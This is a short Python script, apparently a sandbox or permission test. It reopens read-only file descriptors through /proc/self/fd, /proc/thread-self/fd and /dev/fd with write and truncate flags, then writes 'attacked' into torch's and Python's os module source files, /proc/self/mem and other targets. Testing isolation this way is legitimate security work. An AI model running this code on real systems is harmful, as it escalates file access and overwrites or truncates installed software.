"""Opens files again by their descriptors, with more rights than they were opened with."""
import os

import torch

got = []
for path in (torch.__file__, os.__file__, "/dev/urandom", "/proc/self/oom_score_adj", "/proc/self/mem"):
    try:
        descriptor = os.open(path, os.O_RDONLY)
    except OSError:
        continue
    for folder in ("/proc/self/fd", "/proc/thread-self/fd", "/dev/fd"):
        for flags in (os.O_RDWR, os.O_WRONLY | os.O_APPEND, os.O_RDWR | os.O_TRUNC):
            try:
                os.write(os.open(f"{folder}/{descriptor}", flags), b"attacked")
                got.append((path, folder))
            except OSError:
                pass
got
